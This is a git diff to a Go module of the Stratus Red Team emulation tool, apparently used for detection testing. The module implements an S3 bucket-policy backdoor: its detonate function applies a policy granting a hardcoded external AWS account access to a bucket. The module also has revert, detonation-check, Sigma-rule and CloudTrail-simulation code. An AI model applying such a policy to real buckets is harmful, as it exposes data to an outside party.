@@ -1,22 +1,31 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
+	"encoding/json"
+	"errors"
 	"fmt"
 	"github.com/aws/aws-sdk-go-v2/service/s3"
-	"github.com/datadog/stratus-red-team/internal/providers"
+	"github.com/aws/smithy-go"
+	"github.com/datadog/stratus-red-team/internal/utils"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
+	"strings"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 //go:embed malicious_policy.json
 var backdooredPolicy string
 
+// External AWS account the bucket policy grants access to, see malicious_policy.json
+const maliciousPrincipal = "arn:aws:iam::193672423079:root"
+
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
 		ID:                 "aws.exfiltration.s3-backdoor-bucket-policy",
@@ -50,19 +59,23 @@ if the S3 bucket was made public (and not only shared with an attacker-controlle
 - Through [IAM Access Analyzer](https://docs.aws.amazon.com/AmazonS3/latest/userguide/access-analyzer.html),
 which generates a finding when an S3 bucket is made public or accessible from another account.
 `,
+		SigmaRules:                 sigma,
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"bucket_name"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
+		IsDetonated:                isDetonated,
 	})
 }
 
-func detonate(params map[string]string) error {
-	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
-	bucketName := params["bucket_name"]
+func detonate(execution *stratus.ExecutionContext) error {
+	s3Client := s3.NewFromConfig(execution.AWS.GetConnection())
+	bucketName := execution.Parameters["bucket_name"]
 	policy := fmt.Sprintf(backdooredPolicy, bucketName, bucketName)
 
-	log.Println("Backdooring bucket policy of " + bucketName)
-	_, err := s3Client.PutBucketPolicy(context.Background(), &s3.PutBucketPolicyInput{
+	execution.Logger.Println("Backdooring bucket policy of " + bucketName)
+	_, err := s3Client.PutBucketPolicy(execution.Context, &s3.PutBucketPolicyInput{
 		Bucket: &bucketName,
 		Policy: &policy,
 	})
@@ -70,14 +83,48 @@ func detonate(params map[string]string) error {
 	return err
 }
 
-func revert(params map[string]string) error {
-	s3Client := s3.NewFromConfig(providers.AWS().GetConnection())
-	bucketName := params["bucket_name"]
+func revert(execution *stratus.ExecutionContext) error {
+	s3Client := s3.NewFromConfig(execution.AWS.GetConnection())
+	bucketName := execution.Parameters["bucket_name"]
 
-	log.Println("Removing malicious bucket policy on " + bucketName)
-	_, err := s3Client.DeleteBucketPolicy(context.Background(), &s3.DeleteBucketPolicyInput{
+	execution.Logger.Println("Removing malicious bucket policy on " + bucketName)
+	_, err := s3Client.DeleteBucketPolicy(execution.Context, &s3.DeleteBucketPolicyInput{
 		Bucket: &bucketName,
 	})
 
 	return err
 }
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	s3Client := s3.NewFromConfig(execution.AWS.GetConnection())
+	bucketName := execution.Parameters["bucket_name"]
+
+	result, err := s3Client.GetBucketPolicy(execution.Context, &s3.GetBucketPolicyInput{
+		Bucket: &bucketName,
+	})
+	if err != nil {
+		var apiErr smithy.APIError
+		if errors.As(err, &apiErr) && (apiErr.ErrorCode() == "NoSuchBucketPolicy" || apiErr.ErrorCode() == "NoSuchBucket") {
+			return false, nil
+		}
+		return false, errors.New("unable to retrieve bucket policy: " + err.Error())
+	}
+
+	// The bucket is backdoored if its policy grants access to the external AWS account
+	return strings.Contains(*result.Policy, maliciousPrincipal), nil
+}
+
+// simulate generates the CloudTrail event of the backdoored bucket policy being applied
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	bucketName := "stratus-red-team-bdbp-" + utils.RandomString(8)
+	var policy map[string]interface{}
+	_ = json.Unmarshal([]byte(fmt.Sprintf(backdooredPolicy, bucketName, bucketName)), &policy)
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "s3.amazonaws.com", "PutBucketPolicy", map[string]interface{}{
+			"bucketName":   bucketName,
+			"Host":         bucketName + ".s3.amazonaws.com",
+			"policy":       "",
+			"bucketPolicy": policy,
+		}),
+	}
+}